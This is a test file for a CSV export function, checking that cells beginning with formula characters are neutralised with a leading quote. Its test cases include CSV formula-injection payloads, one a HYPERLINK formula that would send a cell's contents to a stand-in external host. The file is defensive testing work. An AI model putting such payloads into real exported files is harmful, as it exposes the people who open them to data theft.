import { describe, it, expect } from 'vitest';
import { parse } from 'csv-parse/sync';
import { toCsv, type CsvCell } from '../../../server/src/core/csv.js';

/** The cells of one record, as a spreadsheet reads the CSV. */
const cellsOf = (row: CsvCell[]): string[] => (parse(toCsv([row]), { bom: true, relax_column_count: true }) as string[][])[0]!;

describe('the CSV writer (core/csv.ts)', () => {
  it.each([
    ['=HYPERLINK("http://x.example/?"&A1,"点我")'],
    ['+1+1'],
    ['-2+3'],
    ['@SUM(A1:A9)'],
    ['\t=1+1'],
    ['\r=1+1'],
    ['＝1+1'],
    ['－1'],
  ])('writes the text %j with a leading quote, so that no spreadsheet evaluates it', (text) => {
    expect(cellsOf([text])).toEqual([`'${text}`]);
  });

  it.each([
    [-3, '-3'],
    [-0.6667, '-0.6667'],
    [0, '0'],
    [12.5, '12.5'],
  ])('keeps the number %j a number (%s)', (n, shown) => {
    expect(cellsOf([n])).toEqual([shown]);
  });

  it('decides by the cell’s type: the text "-3" is neutralised, the number -3 is not', () => {
    expect(cellsOf(['-3', -3])).toEqual(["'-3", '-3']);
  });

  it('leaves ordinary text, empty cells and commas, quotes and line breaks intact', () => {
    expect(cellsOf(['信用卡, "额度"', null, '', 'a\nb', 'a\rb', '1-2'])).toEqual(['信用卡, "额度"', '', '', 'a\nb', 'a\rb', '1-2']);
  });

  it('starts with a byte-order mark and ends records with CRLF', () => {
    const text = toCsv([['a'], [], ['b']]);
    expect(text).toBe('\uFEFFa\r\n\r\nb\r\n');
  });
});
